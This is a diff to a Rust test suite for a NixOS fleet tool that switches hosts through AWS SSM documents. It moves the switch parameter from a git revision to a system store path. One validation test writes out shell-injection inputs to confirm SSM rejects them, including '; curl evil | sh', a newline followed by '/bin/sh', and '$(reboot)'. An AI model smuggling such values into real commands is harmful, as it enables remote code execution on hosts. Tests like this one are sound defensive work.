@@ -435,10 +435,25 @@ async fn an_ami_override_must_be_an_available_fleet_ami() {
 
 fn switch(env: &Env, args: &[&str]) -> std::process::Output {
     let reg = registry_path(env);
-    run(env, &[&["--json", "fleet", "switch"], args, &["--instances", reg.to_str().unwrap()]].concat())
+    let fleet = ["--instances", reg.to_str().unwrap(), "--bucket", &env.bucket];
+    run(env, &[&["--json", "fleet", "switch"], args, &fleet].concat())
 }
 
-/// The switches sent over the wire, in order: (instance ids, the revision
+/// clawdinator-N's system in the release of REV.
+fn system_of(n: usize) -> String {
+    format!("/nix/store/{n}{}-nixos-system-clawdinator-{n}-26.05", "a".repeat(31))
+}
+
+/// The release manifest `release build` would have written for REV.
+async fn release_of(env: &Env, n: usize) {
+    let hosts: serde_json::Map<String, Value> =
+        (1..=n).map(|i| (format!("clawdinator-{i}"), Value::String(system_of(i)))).collect();
+    let manifest = json!({"revision": REV, "hosts": hosts, "nixOpenclaw": null, "cache": "s3://fleet-cache",
+        "createdAt": "2026-12-03T00:00:00Z", "run": "1"});
+    env.put(&format!("releases/{REV}.json"), manifest.to_string().into_bytes()).await;
+}
+
+/// The switches sent over the wire, in order: (instance ids, the system
 /// parameter of the `clawdinator-switch` document).
 async fn commands_sent(env: &Env) -> Vec<(String, Vec<String>)> {
     let requests = env.emulator.recorded_requests().unwrap();
@@ -448,7 +463,7 @@ async fn commands_sent(env: &Env) -> Vec<(String, Vec<String>)> {
         .filter(|b| b["DocumentName"] == "clawdinator-switch")
         .map(|b| {
             let ids: Vec<&str> = b["InstanceIds"].as_array().unwrap().iter().map(|i| i.as_str().unwrap()).collect();
-            let commands = b["Parameters"]["revision"]
+            let commands = b["Parameters"]["system"]
                 .as_array()
                 .unwrap()
                 .iter()
@@ -479,6 +494,7 @@ async fn switch_runs_the_host_command_canary_first_and_tags_each_host() {
     for n in 1..=3 {
         ids.push(instance(&env, &format!("clawdinator-{n}"), &ami, "t3.large", Some(OLD_REV)).await);
     }
+    release_of(&env, 3).await;
     env.emulator
         .switch(
             "ssm-invocation",
@@ -493,7 +509,10 @@ async fn switch_runs_the_host_command_canary_first_and_tags_each_host() {
     let sent = commands_sent(&env).await;
     assert_eq!(sent.len(), 3);
     assert_eq!(sent[0].0, ids[0], "the canary went first");
-    assert_eq!(sent[0].1, [REV]);
+    for (n, (_, systems)) in sent.iter().enumerate() {
+        let names_it = sent.iter().position(|(id, _)| id == &ids[n]).map(|i| &sent[i].1);
+        assert_eq!(names_it, Some(&vec![system_of(n + 1)]), "each host gets its own system: {systems:?}");
+    }
     for id in &ids {
         assert_eq!(revision_tag(&env, id).await.as_deref(), Some(REV));
     }
@@ -508,6 +527,7 @@ async fn switch_stops_at_the_first_failed_host_and_leaves_the_rest() {
     for n in 1..=4 {
         ids.push(instance(&env, &format!("clawdinator-{n}"), &ami, "t3.large", Some(OLD_REV)).await);
     }
+    release_of(&env, 4).await;
     env.emulator
         .switch("ssm-invocation", json!({"name": "clawdinator-2", "status": "Failed", "code": 1, "stderr": "switch stopped at the health check: clawdinator is failed; rolled back"}))
         .unwrap();
@@ -538,6 +558,12 @@ async fn a_host_with_zero_or_two_instances_stops_the_switch_before_anything_runs
     let ami = fleet_ami(&env, "fleet-1").await;
     instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
     env.emulator.start_recording().unwrap();
+    // No release built for REV: named, nothing sent.
+    let out = switch(&env, &[REV]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(stderr.contains(&format!("releases/{REV}.json does not exist")), "{stderr}");
+    release_of(&env, 2).await;
     let out = switch(&env, &[REV]);
     assert_eq!(out.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&out.stderr).contains("clawdinator-2: no running instance"));
@@ -553,38 +579,48 @@ async fn a_host_with_zero_or_two_instances_stops_the_switch_before_anything_runs
 }
 
 /// CI reaches a host only through the fleet's SSM documents: the switch's
-/// runs one fixed command, and SSM itself refuses a revision that is not
-/// 40 hex digits, so shell text never reaches the host.
+/// runs one fixed command, and SSM itself refuses a parameter that is not
+/// a NixOS system's store path, so shell text never reaches the host.
 #[tokio::test(flavor = "multi_thread")]
-async fn the_switch_document_takes_only_a_revision() {
+async fn the_switch_document_takes_only_a_systems_store_path() {
     let env = env().await;
     let document = std::fs::read_to_string(testkit::repo_root().join("infra/opentofu/aws/ssm/switch.json")).unwrap();
     let document: Value = serde_json::from_str(&document).unwrap();
-    assert_eq!(document["parameters"]["revision"]["allowedPattern"], "^[0-9a-f]{40}$");
+    assert_eq!(
+        document["parameters"]["system"]["allowedPattern"],
+        "^/nix/store/[0-9a-z]{32}-nixos-system-[A-Za-z0-9._+-]+$"
+    );
     let steps = document["mainSteps"].as_array().unwrap();
     assert_eq!(steps.len(), 1);
     assert_eq!(
         steps[0]["inputs"]["runCommand"],
-        json!(["/run/current-system/sw/bin/clawdinator host switch {{ revision }} --json"])
+        json!(["/run/current-system/sw/bin/clawdinator host switch {{ system }} --json"])
     );
     let ami = fleet_ami(&env, "fleet-1").await;
     let id = instance(&env, "clawdinator-1", &ami, "t3.large", None).await;
-    for (revision, accepted) in
-        [(REV, true), ("0123456789abcdef0123456789abcdef01234567; curl evil | sh", false), ("main", false)]
-    {
+    let good = system_of(1);
+    for (system, accepted) in [
+        (good.as_str(), true),
+        (&format!("{good}; curl evil | sh") as &str, false),
+        (&format!("{good}\n/bin/sh"), false),
+        ("/tmp/1aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-nixos-system-x", false),
+        ("/nix/store/1aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-hello", false),
+        (REV, false),
+        ("$(reboot)", false),
+    ] {
         let sent = env
             .aws
             .ssm()
             .send_command()
             .document_name("clawdinator-switch")
             .instance_ids(&id)
-            .parameters("revision", vec![revision.to_string()])
+            .parameters("system", vec![system.to_string()])
             .send()
             .await;
         match sent {
-            Ok(_) => assert!(accepted, "SSM ran the switch with {revision:?}"),
+            Ok(_) => assert!(accepted, "SSM ran the switch with {system:?}"),
             Err(e) => {
-                assert!(!accepted, "{revision}: {e:?}");
+                assert!(!accepted, "{system}: {e:?}");
                 assert!(format!("{e:?}").contains("InvalidParameters"), "{e:?}");
             }
         }
